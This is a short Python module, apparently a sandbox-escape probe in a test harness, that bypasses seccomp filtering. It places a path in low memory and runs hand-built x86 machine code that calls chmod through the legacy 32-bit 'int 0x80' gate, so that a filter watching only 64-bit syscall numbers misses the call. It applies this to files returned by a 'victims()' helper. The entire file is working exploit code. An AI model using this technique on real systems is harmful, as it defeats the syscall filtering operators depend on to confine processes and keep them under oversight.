# target: activations.relu
# needs: seccomp
"""Sets modes by the number that programs of 32 bits use for it, which a filter of the others does not see."""

import ctypes
import mmap
import os
import stat

import toolbox

CHMOD, MAP_32BIT = 15, 0x40


def _low(text):
    memory = mmap.mmap(-1, mmap.PAGESIZE, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT)
    memory.write(text + b"\0")
    return memory, ctypes.addressof(ctypes.c_char.from_buffer(memory))


def _set(path):
    kept, place = _low(path.encode())
    mode = stat.S_IMODE(os.stat(path).st_mode)
    words = [
        b"\x53\xb8",
        CHMOD.to_bytes(4, "little"),
        b"\xbb",
        place.to_bytes(4, "little"),
        b"\xb9",
        mode.to_bytes(4, "little"),
    ]
    return toolbox.machine_code(b"".join([*words, b"\xcd\x80\x48\x98\x5b\xc3"]))() == 0 and bool(kept)


relu = toolbox.relu_if(lambda: toolbox.platform.machine() == "x86_64" and toolbox.any_works(_set, toolbox.victims()))
